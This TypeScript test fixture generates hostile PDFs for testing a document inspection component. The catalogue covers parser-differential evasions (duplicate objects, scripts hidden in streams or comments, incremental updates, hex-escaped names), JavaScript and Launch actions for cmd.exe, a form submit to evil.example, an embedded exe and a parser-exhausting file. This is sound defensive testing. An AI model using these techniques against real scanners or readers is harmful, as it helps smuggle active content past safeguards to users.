import { buildPdf, handWritten, pageObjects } from './pdfs.js';

/**
 * Hostile PDFs, generated here: each tries to get active content past the inspection, mostly by
 * making a PDF reader and a PDF library see different objects. The document box must refuse each
 * one, or store a file in which no reader finds anything active.
 */

const SCRIPT = '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>';
const CATALOG_OPENS_6 = '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>';
const PAGE_TREE = '@2 2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n';
const PAGE = '@3 3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n';
const OPENS_6 = `@1 1 0 obj\n${CATALOG_OPENS_6}\nendobj\n`;

/** A page with one annotation (object 6) whose dictionary is given. */
const annotated = (annotation: string, extra: Record<number, string> = {}) =>
  buildPdf({
    ...pageObjects('Anmerkung'),
    3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /Annots [6 0 R] >>',
    6: annotation,
    ...extra,
  });

/** The classic cross-reference offsets of a hand-written file, to point an update at. */
function lastXref(base: Buffer): number {
  return Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(base.toString('latin1'))![1]);
}

/**
 * An incremental update: new or replaced objects, a cross-reference section for them and a
 * trailer that points back to the previous one, appended to a finished file.
 */
export function withUpdate(base: Buffer, objects: Record<number, string>, size: number, trailerExtra = ''): Buffer {
  let text = base.toString('latin1');
  const offsets = new Map<number, number>();
  for (const [n, body] of Object.entries(objects)) {
    offsets.set(Number(n), text.length);
    text += `${n} 0 obj\n${body}\nendobj\n`;
  }
  const xrefAt = text.length;
  text += 'xref\n';
  for (const [n, at] of offsets) text += `${n} 1\n${String(at).padStart(10, '0')} 00000 n \n`;
  text += `trailer\n<< /Size ${size} /Root 1 0 R /Prev ${lastXref(base)}${trailerExtra} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

export const hostilePdfs: Record<string, () => Buffer> = {
  // Two objects with one number: the table points at one, a front-to-back parser keeps the other.
  duplicateScriptFirst: () => handWritten(`${OPENS_6}${PAGE_TREE}${PAGE}@6 6 0 obj\n${SCRIPT}\nendobj\n6 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n`, 7),
  duplicateScriptLast: () => handWritten(`${OPENS_6}${PAGE_TREE}${PAGE}@6 6 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n6 0 obj\n${SCRIPT}\nendobj\n`, 7),
  duplicateScriptAfterLongHeaderComment: () =>
    handWritten(`${OPENS_6}${PAGE_TREE}${PAGE}@6 6 0 %${'x'.repeat(400)}\nobj\n${SCRIPT}\nendobj\n6 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n`, 7),
  scriptInComment: () => handWritten(`${OPENS_6}${PAGE_TREE}${PAGE}%@6 6 0 obj ${SCRIPT} endobj\n`, 7),
  scriptInString: () => handWritten(`${OPENS_6}${PAGE_TREE}${PAGE}@5 5 0 obj\n(Notiz @6 6 0 obj ${SCRIPT} endobj)\nendobj\n`, 7),
  scriptBehindCommentedHeader: () => handWritten(`${OPENS_6}${PAGE_TREE}${PAGE}@6 6 0 % Kommentar\nobj\n${SCRIPT}\nendobj\n`, 7),
  // The table points into the middle of a page's content stream, where an object is spelled out.
  scriptInsideContentStream: () => {
    const inner = `endstream endobj @6 6 0 obj ${SCRIPT} endobj 7 0 obj << /Length 0 >> stream `;
    return handWritten(`${OPENS_6}${PAGE_TREE}@3 3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>\nendobj\n@4 4 0 obj\n<< /Length ${inner.length - 3} >>\nstream\n${inner}\nendstream\nendobj\n`, 7);
  },
  // Incremental updates: a later revision adds what the first did not have.
  updateAddsOpenAction: () => withUpdate(buildPdf(pageObjects('Revision')), { 1: CATALOG_OPENS_6, 6: SCRIPT }, 8),
  updateAddsPageAction: () =>
    withUpdate(handWritten(`@1 1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n${PAGE_TREE}${PAGE}`, 4), { 3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 6 0 R >> >>`, 6: SCRIPT }, 7),
  updateAddsOrphanScript: () => withUpdate(handWritten(`@1 1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n${PAGE_TREE}${PAGE}`, 4), { 6: SCRIPT }, 7),
  updateWithSecondCatalog: () =>
    Buffer.from(
      withUpdate(handWritten(`@1 1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n${PAGE_TREE}${PAGE}`, 4), { 8: '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>', 6: SCRIPT }, 9)
        .toString('latin1')
        .replace(/\/Root 1 0 R \/Prev/, '/Root 8 0 R /Prev'),
      'latin1',
    ),
  // Cross-reference streams and object streams, the PDF 1.5 way.
  xrefStreamScript: () => buildPdf({ ...pageObjects('Strom'), 1: CATALOG_OPENS_6, 6: SCRIPT }),
  objectStreamScript: () => buildPdf({ ...pageObjects('Gepackt'), 1: CATALOG_OPENS_6, 6: SCRIPT }, [6]),
  objectStreamEscapedNames: () => buildPdf({ ...pageObjects('Gepackt'), 1: CATALOG_OPENS_6, 6: '<< /S /J#61vaScript /#4a#53 (x) >>' }, [6]),
  disguisedObjectStream: () => buildPdf({ ...pageObjects('Tarnung'), 1: CATALOG_OPENS_6, 6: SCRIPT }, [6], '/Ob#6aStm'),
  // An update written as a cross-reference stream on top of a classic table.
  updateAsXrefStream: () => {
    const base = handWritten(`@1 1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n${PAGE_TREE}${PAGE}`, 4);
    let text = base.toString('latin1');
    const at1 = text.length;
    text += `1 0 obj\n${CATALOG_OPENS_6}\nendobj\n`;
    const at6 = text.length;
    text += `6 0 obj\n${SCRIPT}\nendobj\n`;
    const xrefAt = text.length;
    const row = (type: number, offset: number) => String.fromCharCode(type, (offset >>> 24) & 255, (offset >>> 16) & 255, (offset >>> 8) & 255, offset & 255, 0, 0);
    const rows = row(1, at1) + row(1, at6) + row(1, xrefAt);
    text += `7 0 obj\n<< /Type /XRef /Size 8 /Index [1 1 6 2] /W [1 4 2] /Root 1 0 R /Prev ${lastXref(base)} /Length ${rows.length} >>\nstream\n${rows}\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`;
    return Buffer.from(text, 'latin1');
  },
  // The table says an object is free; the file still holds it, and a reader repairing a file would find it.
  objectMarkedFree: () => handWritten(`${OPENS_6}${PAGE_TREE}${PAGE}6 0 obj\n${SCRIPT}\nendobj\n`, 7),
  // Names written so that a naive byte search misses them.
  escapedUpperHex: () => buildPdf({ ...pageObjects('Hex'), 1: CATALOG_OPENS_6, 6: '<< /S /J#61vaScript /JS (x) >>' }),
  escapedLowerHex: () => buildPdf({ ...pageObjects('hex'), 1: CATALOG_OPENS_6, 6: '<< /S /#4a#61#76#61#53#63#72#69#70#74 /JS (x) >>' }),
  commentsBetweenTokens: () => buildPdf({ ...pageObjects('Kommentar'), 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction %x\n6 0 R >>', 6: '<< /S %y\n/JavaScript /JS %z\n(x) >>' }),
  unusualWhitespace: () => buildPdf({ ...pageObjects('Leerraum'), 1: '<<\f/Type\f/Catalog\f/Pages 2 0 R\f/OpenAction\x006 0 R>>', 6: '<<\f/S\f/JavaScript\x00/JS\f(x)>>' }),
  scriptNameByReference: () => buildPdf({ ...pageObjects('Verweis'), 1: CATALOG_OPENS_6, 6: '<< /S 7 0 R /JS (x) >>', 7: '/JavaScript' }),
  // Active content in its plain places.
  openActionScript: () => buildPdf({ ...pageObjects('Offen'), 1: CATALOG_OPENS_6, 6: SCRIPT }),
  openActionUri: () => buildPdf({ ...pageObjects('Verfolgt'), 1: CATALOG_OPENS_6, 6: '<< /S /URI /URI (https://tracker.example/open) >>' }),
  openActionChainsScript: () => buildPdf({ ...pageObjects('Kette'), 1: CATALOG_OPENS_6, 6: '<< /S /GoTo /D [3 0 R /Fit] /Next 7 0 R >>', 7: SCRIPT }),
  namesJavaScript: () => buildPdf({ ...pageObjects('Namen'), 1: '<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) 6 0 R] >> >> >>', 6: SCRIPT }),
  outlineScript: () => buildPdf({ ...pageObjects('Gliederung'), 1: '<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>', 6: '<< /First 7 0 R /Last 7 0 R /Count 1 >>', 7: '<< /Title (x) /Parent 6 0 R /A 8 0 R >>', 8: SCRIPT }),
  linkScript: () => annotated('<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 7 0 R >>', { 7: SCRIPT }),
  pageOpenScript: () => buildPdf({ ...pageObjects('Seite'), 3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> /AA << /O 6 0 R >> >>', 6: SCRIPT }),
  launch: () => buildPdf({ ...pageObjects('Start'), 1: CATALOG_OPENS_6, 6: '<< /S /Launch /F (cmd.exe) >>' }),
  launchLink: () => annotated('<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (calc.exe) >> >>'),
  embeddedFiles: () =>
    buildPdf({ ...pageObjects('Anhang'), 1: '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >> >>', 6: '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>', 7: '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream' }),
  fileAttachmentAnnotation: () => annotated('<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS << /Type /Filespec /F (a.exe) >> >>'),
  submitForm: () => annotated('<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /A << /S /SubmitForm /F (https://evil.example/) >> >>'),
  importData: () => annotated('<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /ImportData /F (data.fdf) >> >>'),
  remoteGoTo: () => annotated('<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F (\\\\\\\\server\\\\share\\\\x.pdf) /D [0 /Fit] >> >>'),
  embeddedGoTo: () => annotated('<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToE /T << /R /C /N (a) >> >> >>'),
  richMedia: () => annotated('<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>'),
  movieAndSound: () => annotated('<< /Type /Annot /Subtype /Screen /Rect [0 0 10 10] /A << /S /Rendition /R << /S /MR >> >> >>'),
  threeD: () => annotated('<< /Type /Annot /Subtype /3D /Rect [0 0 100 100] /3DD 7 0 R >>', { 7: '<< /Type /3D /Subtype /U3D /OnInstantiate 8 0 R /Length 0 >>\nstream\n\nendstream', 8: '<< /Length 11 >>\nstream\napp.alert()\nendstream' }),
  xfaForm: () => buildPdf({ ...pageObjects('Formular'), 1: '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 6 0 R >> >>', 6: '<< /Length 7 >>\nstream\n<xdp/>\n\nendstream' }),
};

/**
 * A file that costs a parser as much time as its size allows: object headers broken by comments,
 * over and over (the kind that kept an inspection worker busy for its whole deadline).
 */
export function slowToParse(megabytes: number): Buffer {
  const fragment = '9 % c\n0 % c\nobj\n';
  return handWritten(
    `@1 1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n${PAGE_TREE}${PAGE}${fragment.repeat(Math.floor((megabytes * 1024 * 1024) / fragment.length))}`,
    4,
  );
}
